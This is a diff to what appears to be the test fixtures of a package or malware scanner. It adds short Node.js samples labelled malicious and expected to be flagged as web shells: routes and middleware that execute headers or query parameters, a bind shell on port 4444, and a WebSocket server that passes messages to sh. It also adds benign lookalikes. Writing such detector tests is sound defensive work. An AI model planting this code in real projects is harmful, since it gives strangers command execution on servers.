@@ -4,6 +4,41 @@ import { at, hide, imported, installed, quiet, wheel } from '../samples-kit.ts';
 export const samples: Samples = {
   malicious: [
     {
+      name: 'a route that runs a header',
+      files: imported(
+        `const { execSync } = require('child_process');\nmodule.exports = (app) => {\n  app.get('/healthz', (request, response) => {\n    const probe = request.get('x-probe');\n    if (probe) return response.send(execSync(Buffer.from(probe, 'base64').toString()));\n    response.json({ ok: true });\n  });\n};\n`,
+      ),
+      expected: [at('web-shell', 'high', 'index.js', 5)],
+    },
+    {
+      name: 'a middleware that evaluates a parameter',
+      files: imported(
+        `module.exports = () => (req, res, next) => {\n  if (req.query._t) return res.end(String((0, eval)(req.query._t)));\n  next();\n};\n`,
+      ),
+      expected: [at('web-shell', 'high', 'index.js', 2)],
+    },
+    {
+      name: 'a server of its own, at import',
+      files: imported(
+        `const http = require('http'), cp = require('child_process');\nhttp.createServer((q, s) => {\n  cp.exec(decodeURIComponent(q.url.slice(1)), (e, out) => s.end(out));\n}).listen(8731);\n`,
+      ),
+      expected: [at('web-shell', 'high', 'index.js', 3)],
+    },
+    {
+      name: 'a shell for whoever connects, at import',
+      files: imported(
+        `const net = require('net'), cp = require('child_process');\nnet.createServer((socket) => {\n  const sh = cp.spawn('/bin/sh', []);\n  socket.pipe(sh.stdin);\n  sh.stdout.pipe(socket);\n}).listen(4444);\n`,
+      ),
+      expected: [at('web-shell', 'high', 'index.js', 4)],
+    },
+    {
+      name: 'messages of a socket that are run by a shell',
+      files: imported(
+        `const { WebSocketServer } = require('ws'), { spawn } = require('child_process');\nnew WebSocketServer({ port: 8731 }).on('connection', (link) => {\n  link.on('message', (text) => spawn('sh', ['-c', String(text)]));\n});\n`,
+      ),
+      expected: [at('web-shell', 'high', 'index.js', 3)],
+    },
+    {
       name: 'connections to where a server says',
       files: imported(
         `const net = require('net'), WebSocket = require('ws');\nconst link = new WebSocket('wss://a.weir.test/exit');\nlink.on('message', (raw) => {\n  const { host, port } = JSON.parse(raw);\n  net.connect(port, host).on('data', (part) => link.send(part));\n});\n`,
@@ -54,6 +89,24 @@ export const samples: Samples = {
     },
   ],
   benign: [
+    quiet(
+      'a route that opens the file of a request in an editor',
+      imported(
+        `const { execFile } = require('child_process');\nmodule.exports = (app, editor) => {\n  app.get('/open', (req, res) => {\n    execFile(editor, [req.query.file]);\n    res.end();\n  });\n};\n`,
+      ),
+    ),
+    quiet(
+      'a route that asks git about a file',
+      imported(
+        `const { execSync } = require('child_process');\nmodule.exports = (app) => {\n  app.get('/log', (req, res) => res.send(execSync('git log -- ' + JSON.stringify(req.query.file))));\n};\n`,
+      ),
+    ),
+    quiet(
+      'a route that starts what its maker was given',
+      imported(
+        `const { exec } = require('child_process');\nmodule.exports = (app, command) => {\n  app.post('/deploy', (req, res) => exec(command, () => res.end(req.query.id)));\n};\n`,
+      ),
+    ),
     quiet(
       'connections to where a caller says',
       imported(
